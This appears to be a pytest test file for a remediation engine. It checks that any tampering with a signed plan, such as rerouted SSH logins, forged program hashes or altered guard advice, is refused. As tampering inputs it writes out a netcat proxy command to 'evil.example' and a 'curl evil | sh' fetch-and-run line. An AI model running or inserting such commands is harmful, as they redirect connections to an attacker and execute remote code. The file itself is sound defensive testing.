"""Every field of a plan is compared before anything runs: whatever is changed in it, and however
well it is signed, nothing is applied.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from datetime import timedelta
from typing import Any

import pytest
from msgspec.structs import replace

from remediations.engine.catalogue import branch_of
from remediations.engine.observe.observation import Scope
from remediations.engine.plan.build import PlanBuilder
from remediations.engine.plan.compare import MOVABLE, changed_fields, changed_logins
from remediations.engine.plan.plan import GuardResult, Outcome, Plan
from remediations.engine.plan.recheck import check_derivation, recheck
from remediations.errors import Refused, RemediationError, UsageError, WorldChanged
from remediations.playbooks.chain.baseline import ChainBaseline
from remediations.playbooks.chain.domain import DOMAIN
from remediations.playbooks.chain.situation import situation
from remediations.systems.comet.reading import CometReading, HostReading, sealed
from remediations.systems.hosts.compile.compiler import Compiler
from remediations.values.login import Login
from remediations.values.part import Part
from remediations.values.reading import Known
from remediations.values.wire import digest
from tests import worlds
from tests.unit.plan.cases import ORIGIN, compiled, maker_of, still_holds
from tests.unit.playbooks.mutations import PATHS, PLAN, WORLD, mutated, pattern, value_at


@pytest.fixture(scope="module")
def maker() -> Iterator[PlanBuilder]:
    with Compiler() as compiler:
        yield maker_of(compiler)


def test_plan_follows_from_its_observation(maker: PlanBuilder) -> None:
    """Or nothing below would prove anything."""
    check_derivation(PLAN, sealed(WORLD), maker)
    recheck(PLAN, sealed(later(WORLD)), maker)
    assert len(PATHS) > 500


def test_every_field_is_refused_by_the_saved_observation(maker: PlanBuilder) -> None:
    """Whatever is written into a plan that was not planned: it is not applied."""
    accepted, unchanged = [], []
    for path in PATHS:
        plan = mutated(path)
        if plan is None:
            unchanged.append(path)
            continue
        try:
            check_derivation(plan, sealed(WORLD), maker)
        except RemediationError:
            continue
        accepted.append(path)
    assert accepted == []
    fixed = [path for path in unchanged if not isinstance(value_at(path), list)]
    assert fixed == [], "no other value was found for these"


def test_what_the_fresh_observation_lets_pass_is_declared(maker: PlanBuilder) -> None:
    """Also where somebody made the saved observation fit: only what is declared may have moved."""
    made = made_of(maker, later(WORLD))
    passed = {
        pattern(path)
        for path in PATHS
        if (plan := mutated(path)) is not None
        and not changed_fields(plan, made, movable=DOMAIN.movable)
    }
    undeclared = {p for p in passed if not any(p == m or p.startswith(f"{m}.") for m in DECLARED)}
    assert undeclared == set()


PARTS = {
    **{part.kind: f"baseline.{number}.value" for number, part in enumerate(PLAN.baseline)},
    PLAN.stages[0].gate.asks.kind: "stages.*.gate.asks.value",
}
DECLARED = (
    *MOVABLE,
    *(f"{PARTS[kind]}.{name}" for kind, name in map(str.split, DOMAIN.movable) if kind in PARTS),
)
"""Every field that may move, as `pattern` names it."""

FIXED = (
    *("origin", "tool", "domain", "playbook", "branch", "checks", "logins", "risk", "warnings"),
    *("resources", "title", "inputs"),
)


def test_what_runs_and_who_is_meant_never_moves() -> None:
    """The table of what may move is not widened to any of this: what runs, where, by whose code,
    for how long, what is checked afterwards, and how many have to approve."""
    moving = {name.partition(".")[0] for name in MOVABLE}
    assert not moving & {*FIXED, "worst_case", "approvals_needed", "inventory_digest"}
    assert not {"stages", "stages.*", "facts", "baseline"} & MOVABLE.keys()
    for path in PATHS:
        plan = mutated(path)
        if plan is not None and (path[0] in FIXED or "steps" in path):
            assert changed_fields(plan, PLAN, movable=DOMAIN.movable), path


def test_what_moves_with_time_is_let_pass(maker: PlanBuilder) -> None:
    """A minute later, at the same height, the round has risen: the plan still holds."""
    assert still_holds(PLAN, later(WORLD, rounds=3), maker)


@pytest.mark.parametrize(
    ("name", "change"),
    [
        ("stages[1].gate.timeout_s", lambda p: _gate(p, timeout_s=10**6)),
        (
            "stages[1].gate.asks[chain.advances/1].height",
            lambda p: _gate(p, asks=_with(p.stages[0].gate.asks, height=str(10**6))),
        ),
        ("baseline[0][chain.baseline/1].height", lambda p: _stood(p, height=str(10**6))),
        (
            "baseline[0][chain.baseline/1].sign_states",
            lambda p: _stood(
                p, sign_states=[{"host": "val1", "height": "9999", "round": "0", "step": "0"}]
            ),
        ),
    ],
)
def test_numbers_that_may_rise_may_not_be_planned_higher(name: str, change: Any) -> None:  # noqa: ANN401 - a function of a plan
    (difference,) = changed_fields(change(PLAN), PLAN, movable=DOMAIN.movable)
    assert difference.name == name


def test_observation_of_another_plan_is_refused(maker: PlanBuilder) -> None:
    with pytest.raises(Refused, match="not what its own observation gives"):
        check_derivation(PLAN, sealed(later(WORLD)), maker)


INCOMPLETE = {
    "deciding": lambda world: replace(world, scope=Scope.DECIDING),
    "format": lambda world: replace(world, format=99),
    "twice": lambda world: replace(world, hosts=(*world.hosts, world.hosts[-1])),
    "dropped": lambda world: replace(world, hosts=world.hosts[:-1]),
    "backwards": lambda world: replace(world, began=world.ended + timedelta(seconds=1)),
}


@pytest.mark.parametrize("change", INCOMPLETE.values(), ids=INCOMPLETE)
def test_incomplete_observation_gives_no_plan(
    maker: PlanBuilder, change: Callable[[CometReading], CometReading]
) -> None:
    """Without a full reading a guard (G8) would not be asked at all, and no line would say so;
    nothing that is read at `apply` would miss it."""
    world = change(WORLD)
    made = replace(PLAN, observation_digest=digest(sealed(world)))
    with pytest.raises(Refused, match="not what its own observation gives"):
        check_derivation(made, sealed(world), maker)
    with pytest.raises(UsageError, match=r"no plan can be made|that can be used"):
        compiled(world)


@pytest.mark.parametrize(
    ("place", "field", "name"), [(0, "untouched", "pid"), (1, "nodes", "home")]
)
def test_host_that_was_slow_to_answer_may_be_there_now(place: int, field: str, name: str) -> None:
    """It is not acted on, and nothing that was signed counts it. One that was there is the same."""
    part = PLAN.baseline[place]
    entries = part.value[field]
    assert entries

    def planned(entries: list[Any]) -> Plan:
        parts = list(PLAN.baseline)
        parts[place] = _with(part, **{field: entries})
        return replace(PLAN, baseline=tuple(parts))

    assert not changed_fields(planned(entries[1:]), PLAN, movable=DOMAIN.movable)
    other = [{**entries[0], name: "9"}, *entries[1:]]
    for was, now in ((planned(other), PLAN), (PLAN, planned(entries[1:]))):
        assert changed_fields(was, now, movable=DOMAIN.movable)


def test_plan_of_another_version_is_refused(maker: PlanBuilder) -> None:
    with pytest.raises(Refused) as refused:
        check_derivation(replace(PLAN, tool="remediate 9.9"), sealed(WORLD), maker)
    assert "remediate 9.9" in refused.value.expected


def test_edited_playbook_is_refused(maker: PlanBuilder) -> None:
    edited = replace(ORIGIN, digest="3" * 64)
    with pytest.raises(Refused) as refused:
        check_derivation(replace(PLAN, origin=edited), sealed(WORLD), maker)
    assert "333333333333" in refused.value.expected


def test_name_that_leads_elsewhere_is_refused(maker: PlanBuilder) -> None:
    """Another machine, another way to it, or another key: none of them was approved."""
    ways = (
        worlds.login_of("val1", hostname="evil.example"),
        worlds.login_of("val1", jump="bastion1"),
    )
    for way in ways:
        logins = tuple(way if login.host == "val1" else login for login in WORLD.logins)
        with pytest.raises(WorldChanged) as changed:
            recheck(PLAN, sealed(replace(WORLD, logins=logins)), maker)
        assert "logins[val1]" in changed.value.got


WAYS: dict[str, Callable[[Login], Login]] = {
    "machine": lambda login: _hop(login, hostname="evil.example"),
    "port": lambda login: _hop(login, port=2222),
    "user": lambda login: _hop(login, user="root"),
    "proxy": lambda login: _hop(login, proxy_command="nc evil.example 22"),
    "key": lambda login: _hop(login, host_keys=("ssh-ed25519 SHA256:other",)),
    "one more key": lambda login: _hop(login, host_keys=(*login.hops[0].host_keys, "one more")),
    "jump": lambda login: replace(login, hops=(login.hops[0], *login.hops)),
    "nowhere": lambda login: replace(login, hops=(), trouble="ssh_config cannot be read"),
}


@pytest.mark.parametrize("change", WAYS.values(), ids=WAYS)
def test_name_that_leads_elsewhere_is_named_at_once(
    change: Callable[[Login], Login],
) -> None:
    """Each part of the way counts, for each host; so does a host that is not there any more."""
    planned = PLAN.logins
    for number, login in enumerate(planned):
        now = (*planned[:number], change(login), *planned[number + 1 :])
        (difference,) = changed_logins(planned, now)
        assert difference.name.startswith(f"{login.host}: ")
        assert changed_logins(planned, (*planned[:number], *planned[number + 1 :]))
    assert changed_logins(planned, planned) == ()


GUARDS: dict[str, Callable[[tuple[GuardResult, ...]], tuple[GuardResult, ...]]] = {
    "left out": lambda guards: guards[1:],
    "one more": lambda guards: (*guards, guards[0]),
    "outcome": lambda guards: (replace(guards[0], outcome=Outcome.UNKNOWN), *guards[1:]),
    "title": lambda guards: (replace(guards[0], title="all is well"), *guards[1:]),
    "advice": lambda guards: (replace(guards[0], next_step="curl evil | sh"), *guards[1:]),
    "facts": lambda guards: (replace(guards[0], facts=("x",)), *guards[1:]),
    "subject": lambda guards: (replace(guards[0], subject="val9"), *guards[1:]),
}


@pytest.mark.parametrize("change", GUARDS.values(), ids=GUARDS)
def test_guards_may_see_something_else_and_nothing_more(
    change: Callable[[tuple[GuardResult, ...]], tuple[GuardResult, ...]],
) -> None:
    (difference,) = changed_fields(replace(PLAN, guards=change(PLAN.guards)), PLAN, movable={})
    assert difference.name == "guards"
    seen = tuple(replace(guard, got="another height") for guard in PLAN.guards)
    assert changed_fields(replace(PLAN, guards=seen), PLAN, movable={}) == ()


HASHED = {program.host: program.sha256 for program in PLAN.part(ChainBaseline).programs}


@pytest.mark.parametrize("host", HASHED)
def test_hash_of_a_program_that_was_not_observed_is_refused(maker: PlanBuilder, host: str) -> None:
    """Whoever plans can write any hash into the observation; it is read again before applying."""
    forged = [
        {"host": name, "sha256": "e" * 64 if name == host else sha256}
        for name, sha256 in HASHED.items()
    ]
    with pytest.raises(WorldChanged) as changed:
        recheck(_stood(PLAN, programs=forged), sealed(WORLD), maker)
    assert "chain.baseline/1].programs" in changed.value.got


def test_hash_that_cannot_be_read_now_is_not_another_one(maker: PlanBuilder) -> None:
    """Of a host that is not acted on; of one that is, it blocks."""
    unread = lambda r: replace(r, binary=worlds.unknown())  # noqa: E731 - said once
    for other in HASHED.keys() - set(PLAN.targets):
        recheck(PLAN, sealed(worlds.change(WORLD, other, unread)), maker)
    acting = PLAN.targets[0]
    with pytest.raises(WorldChanged) as changed:
        recheck(PLAN, sealed(worlds.change(WORLD, acting, unread)), maker)
    assert f"G8 {acting}" in changed.value.got


def later(world: CometReading, *, rounds: int = 0) -> CometReading:
    """The same world, read a minute later the quick way."""
    minute = timedelta(minutes=1)
    world = replace(world, began=world.began + minute, ended=world.ended + minute)
    return worlds.deciding(
        replace(world, hosts=tuple(_in_later_round(reading, rounds) for reading in world.hosts))
    )


def _in_later_round(reading: HostReading, rounds: int) -> HostReading:
    samples = tuple(
        replace(
            sample,
            round=replace(
                sample.round,
                value=replace(sample.round.value, round=sample.round.value.round + rounds),
            ),
        )
        if isinstance(sample.round, Known)
        else sample
        for sample in reading.samples
    )
    return replace(reading, samples=samples)


def made_of(maker: PlanBuilder, world: CometReading) -> Plan:
    """What the branch of the plan makes of a world."""
    observation = sealed(world)
    chain = situation(observation, frozenset(PLAN.targets))
    return maker.build(branch_of(PLAN, maker.playbook), chain, observation)


def _with(part: Part, **fields: Any) -> Part:  # noqa: ANN401 - a part's own fields
    return Part(kind=part.kind, value={**part.value, **fields})


def _stood(plan: Plan, **fields: Any) -> Plan:  # noqa: ANN401 - the baseline's own fields
    return replace(plan, baseline=(_with(plan.baseline[0], **fields), *plan.baseline[1:]))


def _hop(login: Login, **fields: Any) -> Login:  # noqa: ANN401 - a hop's own fields
    return replace(login, hops=(replace(login.hops[0], **fields), *login.hops[1:]))


def _gate(plan: Plan, **fields: Any) -> Plan:  # noqa: ANN401 - a gate's own fields
    (stage,) = plan.stages
    return replace(plan, stages=(replace(stage, gate=replace(stage.gate, **fields)),))
